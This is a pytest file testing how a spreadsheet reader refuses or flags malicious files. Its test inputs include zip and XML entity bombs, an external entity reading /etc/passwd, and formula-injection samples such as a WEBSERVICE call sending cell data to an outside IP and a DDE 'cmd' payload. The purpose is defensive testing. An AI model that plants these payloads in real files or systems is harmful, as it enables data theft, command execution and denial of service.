"""Files that mean harm, or are no tables: each is refused by name, or read with what it tried being told."""

from __future__ import annotations

import io
import re
import resource
import struct
import zipfile

import olefile
import pytest

from tepian.toolkit.tables import Limits, Unreadable, read, sentence

from .table_files import delimited, xlsx

SIMPLE = [["Nama", "Nilai"], ["a", 1], ["b", 2], ["c", 3]]


def refused(data: bytes, name: str = "x.xlsx", **limits: int) -> Unreadable:
    with pytest.raises(Unreadable) as caught:
        read(data, name, limits=Limits(**limits))
    for language in ("en", "id"):
        assert "{" not in caught.value.sentence(language)
    return caught.value


def changed(data: bytes, parts: dict[str, bytes | None], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The archive with parts replaced, added, or (None) removed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", compression) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            if content is not None:
                new.writestr(name, content)
    return out.getvalue()


def part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


SHEET = "xl/worksheets/sheet1.xml"


def codes(book) -> set[str]:
    return {finding.code for finding in book.all_findings()}


# --- archives --------------------------------------------------------------------------------------------------------


def test_a_bomb_is_refused_before_it_is_unpacked():
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    data = changed(xlsx(SIMPLE), {"xl/media/huge.xml": bytes(300_000_000)})
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # what making it took
    assert refused(data).code == "archive_ratio"
    assert refused(data, unpacked=200_000_000).code == "archive_too_large"
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - max(before, grown) < 100_000  # KiB


def test_a_directory_that_lies_about_sizes_is_found_out():
    plain = part(xlsx(SIMPLE), SHEET)
    data = bytearray(changed(xlsx(SIMPLE), {SHEET: plain.replace(b"</worksheet>", b" " * 5_000_000 + b"</worksheet>")}))
    at = data.rfind(SHEET.encode()) - 46  # its entry in the directory
    assert data[at : at + 4] == b"PK\x01\x02"
    struct.pack_into("<I", data, at + 24, len(plain))
    assert refused(bytes(data)).code == "broken"


def test_too_many_parts_and_parts_that_come_twice():
    data = xlsx(SIMPLE)
    assert refused(changed(data, {f"xl/a{n}.xml": b"<a/>" for n in range(50)}), entries=40).code == "archive_entries"
    out = io.BytesIO(data)
    with pytest.warns(UserWarning), zipfile.ZipFile(out, "a") as archive:
        archive.writestr(SHEET, b"<worksheet/>")
    assert refused(out.getvalue()).code == "archive_twice"


@pytest.mark.parametrize("target", [SHEET, "xl/sharedStrings.xml", "xl/workbook.xml", "xl/styles.xml"])
def test_entities_are_refused_wherever_they_are_declared(target):
    data = xlsx(SIMPLE)
    bomb = b'<!DOCTYPE a [<!ENTITY a "' + b"x" * 99 + b'"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    xml = re.sub(rb"^(<\?xml[^>]*>\s*)?", lambda m: m[0] + bomb, part(data, target), count=1)
    assert refused(changed(data, {target: xml})).code == "entities"
    outside = b'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    xml = re.sub(rb"^(<\?xml[^>]*>\s*)?", lambda m: m[0] + outside, part(data, target), count=1)
    assert refused(changed(data, {target: xml})).code == "entities"


def test_an_entity_in_another_encoding_is_refused_too():
    data = xlsx(SIMPLE)
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY a "x">]><worksheet>&a;</worksheet>'
    assert refused(changed(data, {SHEET: text.encode("utf-16")})).code == "entities"


def cells(*references: str) -> bytes:
    rows = "".join(f'<row r="{re.sub("[A-Z]", "", r)}"><c r="{r}"><v>1</v></c></row>' for r in references)
    return f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'.encode()


def test_two_cells_at_opposite_corners_do_not_fill_the_memory():
    data = xlsx(SIMPLE)
    assert refused(changed(data, {SHEET: cells("A1", "XFD1048576")})).code == "too_many_columns"
    assert refused(changed(data, {SHEET: cells("A1", "AZ1048576")})).code == "area_too_large"
    # The row's own number may lie: what counts is the cell's.
    lying = cells("A1", "AZ1048576").replace(b'row r="1048576"', b'row r="2"')
    assert refused(changed(data, {SHEET: lying})).code == "area_too_large"


def test_a_million_empty_rows_cost_nothing_and_change_nothing():
    data = xlsx(SIMPLE)
    empty = b"".join(b'<row r="%d"><c r="A%d" s="0"/></row>' % (n, n) for n in range(5, 1_000_000))
    xml = part(data, SHEET).replace(b"</sheetData>", empty + b"</sheetData>")
    table = read(changed(data, {SHEET: xml}), "x.xlsx", limits=Limits(ratio=10_000)).tables[0]
    assert table.area == "A1:B4"
    far = part(data, SHEET).replace(b"</sheetData>", b'<row r="1000000"><c r="A1000000"><v>9</v></c></row></sheetData>')
    table = read(changed(data, {SHEET: far}), "x.xlsx").tables[0]
    assert [row.line for row in table.rows] == [2, 3, 4]
    assert [(finding.code, finding.address) for finding in table.findings] == [("stray_cell", "A1000000")]


def test_more_cells_than_allowed_are_refused():
    assert refused(xlsx(SIMPLE), cells=5).code == "too_many_cells"
    assert refused(delimited(SIMPLE), "x.csv", cells=5).code == "too_many_cells"
    assert refused(xlsx({"a": _messy(), "b": _messy()}), sheets=1).code == "too_many_sheets"
    assert refused(delimited([["x"] * 30]), "x.csv", columns=20).code == "too_many_columns"
    assert refused(b"x" * 100, "x.csv", size=99).code == "too_large"


def _messy():
    from .table_files import Messy

    return Messy(SIMPLE, [])


def test_a_merge_over_everything_is_bounded():
    data = xlsx(SIMPLE)
    merges = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    xml = part(data, SHEET).replace(b"</sheetData>", b"</sheetData>" + merges)
    hurt = changed(data, {SHEET: xml})
    assert refused(hurt).code == "no_table"  # the sheet is a single cell
    assert refused(hurt, cells=7).code == "too_many_cells"


# --- OpenDocument ----------------------------------------------------------------------------------------------------


def ods(body: str, mimetype: str = "application/vnd.oasis.opendocument.spreadsheet") -> bytes:
    out = io.BytesIO()
    names = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", mimetype, zipfile.ZIP_STORED)
        archive.writestr("META-INF/manifest.xml", "<manifest/>")
        archive.writestr(
            "content.xml",
            f"<office:document-content {names}><office:body><office:spreadsheet>{body}</office:spreadsheet></office:body>"
            "</office:document-content>",
        )
    return out.getvalue()


CELL = '<table:table-cell office:value-type="float" office:value="1" {}><text:p>1</text:p></table:table-cell>'


def test_repeated_cells_are_counted_before_they_are_made():
    row = f'<table:table-row table:number-rows-repeated="1000000">{CELL.format("")}{CELL.format("")}</table:table-row>'
    body = f'<table:table table:name="S">{row * 3}</table:table>'
    assert refused(ods(body), "x.ods").code in {"too_many_cells", "area_too_large"}
    wide = CELL.format('table:number-columns-repeated="16384"')
    body = f'<table:table table:name="S"><table:table-row>{wide}</table:table-row></table:table>'
    assert refused(ods(body), "x.ods").code == "too_many_columns"


def test_a_million_empty_rows_between_two_of_an_opendocument():
    nothing = '<table:table-cell table:number-columns-repeated="1024"/>'
    empty = f'<table:table-row table:number-rows-repeated="1000000">{nothing}</table:table-row>'
    label = '<table:table-cell office:value-type="string"><text:p>Nilai</text:p></table:table-cell>'
    head = f"<table:table-row>{label}</table:table-row>"
    row = f"<table:table-row>{CELL.format('')}</table:table-row>"
    book = read(ods(f'<table:table table:name="S">{head}{row}{empty}{row}</table:table>'), "x.ods")
    assert [r.line for r in book.tables[0].rows] == [2, 1_000_003]


# --- what a workbook asks for ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://198.51.100.7/?"&A1)', "=[1]Lembar1!A1", "=cmd|'/C calc'!A0", "='file:///tmp/[x.xlsx]S'!A1",
        '=RTD("a","","b")', "='\\\\server\\a\\[b.xlsx]S'!A1",
    ],
)  # fmt: skip
def test_a_formula_that_calls_out_is_told_and_its_stored_value_used(formula):
    book = read(xlsx([["Nama", "Nilai"], ["a", (formula, 7)], ["b", 2], ["c", 3]]), "x.xlsx")
    assert [row.cells[1].value for row in book.tables[0].rows] == [7, 2, 3]
    found = next(f for f in book.findings if f.code == "formula_calls_out")
    assert found.address == "B2"
    assert found.level == "warning"


def test_structured_references_do_not_call_out():
    book = read(xlsx([["Nama", "Nilai"], ["a", ("=SUM(Tabel1[2020])", 7)], ["b", 2]]), "x.xlsx")
    assert "formula_calls_out" not in codes(book)
    assert {"computed", "stale_results"} <= codes(book)


def test_a_formula_without_result_is_missing_and_told():
    book = read(xlsx([["Nama", "Nilai"], ["a", "=SUM(A1:A9)"], ["b", 2], ["c", 3]]), "x.xlsx")
    cell = book.tables[0].rows[0].cells[1]
    assert (cell.value, cell.missing) == (None, "formula_without_value")
    assert next(f for f in book.all_findings() if f.code == "formula_without_value").address == "B2"
    book = read(delimited([["Nama", "Nilai"], ["a", "=cmd|'/C calc'!A0"], ["b", 2], ["c", 3]]), "x.csv")
    assert book.tables[0].rows[0].cells[1].missing == "formula_without_value"


def test_macros_links_connections_and_pictures_are_told():
    data = changed(
        xlsx(SIMPLE),
        {
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0", "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            "xl/connections.xml": b"<connections/>", "xl/media/image1.png": b"\x89PNG",
        },
    )  # fmt: skip
    assert {"macros", "external_links", "connections", "pictures"} <= codes(read(data, "x.xlsm"))


def test_a_sheet_of_pictures_only_is_refused():
    data = changed(xlsx([[]]), {"xl/media/image1.png": b"\x89PNG"})
    assert refused(data).code == "only_pictures"
    assert refused(xlsx([[]])).code == "no_table"
    assert refused(xlsx([["Hanya sebuah kalimat."]])).code == "no_table"


# --- what is no table ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty_file"), (b"\xef\xbb\xbf\r\n", "empty_file"), (b"%PDF-1.7", "wrong_type"),
        (b"\x89PNG\r\n", "wrong_type"), (b"\x00\x01\x02\x03" * 99, "wrong_type"), (b"PK\x03\x04" + b"x" * 50, "broken"),
        (b"<?xml version='1.0'?><a/>", "wrong_type"), (b'{"a": 1}', "wrong_type"), (b"\x81\x8d\x8f", "undecodable"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "broken"), (b"<html><body>hai</body></html>", "no_table"),
    ],
)  # fmt: skip
def test_what_is_no_table_is_refused(data, code):
    assert refused(data, "x.csv").code == code


def test_other_documents_and_broken_workbooks_are_refused():
    assert refused(ods("", "application/vnd.oasis.opendocument.text")).code == "wrong_type"
    docx = io.BytesIO()
    with zipfile.ZipFile(docx, "w") as archive:
        archive.writestr("word/document.xml", "<a/>")
    assert refused(docx.getvalue()).params == {"found": "DOCX"}
    data = xlsx(SIMPLE)
    for cut in range(0, len(data), len(data) // 40):
        assert refused(data[:cut] or b"PK").code in {"broken", "wrong_type"}
    assert refused(changed(data, {SHEET: b"<worksheet><sheetData><row"})).code == "broken"
    assert refused(changed(data, {SHEET: None})).code in {"broken", "no_table"}
    assert refused(changed(data, {"xl/workbook.xml": b"<workbook/>"})).code in {"broken", "no_table"}


def test_flipped_bytes_never_end_in_anything_but_a_refusal_or_a_book():
    from pathlib import Path

    for kind in ("xls", "ods", "xlsx"):
        data = (Path(__file__).parent / "tables" / f"libreoffice.{kind}").read_bytes()
        for n in range(60):
            hurt = bytearray(data)
            for at in range(n * 97 % 512 + n, len(hurt), 4001 + n * 13):
                hurt[at] ^= 0x5A
            try:
                read(bytes(hurt), f"x.{kind}")
            except Unreadable as refusal:
                assert refusal.sentence("id")


def test_protected_workbooks_are_refused():
    data = xlsx(SIMPLE)
    locked = bytearray(data)
    for at in (m.start() for m in re.finditer(rb"PK\x01\x02", data)):
        locked[at + 8] |= 1
    assert refused(bytes(locked)).code == "encrypted"


def _ole(data: bytes, stream: str, content: bytes) -> bytes:
    out = io.BytesIO(data)
    with olefile.OleFileIO(out, write_mode=True) as ole:
        ole.write_stream(stream, content)
        return out.getvalue()


def test_a_protected_xls_is_refused():
    from pathlib import Path

    data = (Path(__file__).parent / "tables" / "libreoffice.xls").read_bytes()
    with olefile.OleFileIO(io.BytesIO(data)) as ole:
        book = bytearray(ole.openstream("Workbook").read())
    size = struct.unpack_from("<H", book, 2)[0]
    struct.pack_into("<H", book, 4 + size, 0x2F)  # the record after the first one now says: a password follows
    assert refused(_ole(data, "Workbook", bytes(book)), "x.xls").code == "encrypted"


def test_every_code_has_both_sentences_with_the_same_names():
    from tepian.toolkit.tables.sentences import SENTENCES

    for code, (english, indonesian) in SENTENCES.items():
        assert set(re.findall(r"{(\w+)}", english)) == set(re.findall(r"{(\w+)}", indonesian)), code
        assert english != indonesian
    assert sentence("nobody_knows", {}) == "nobody_knows"
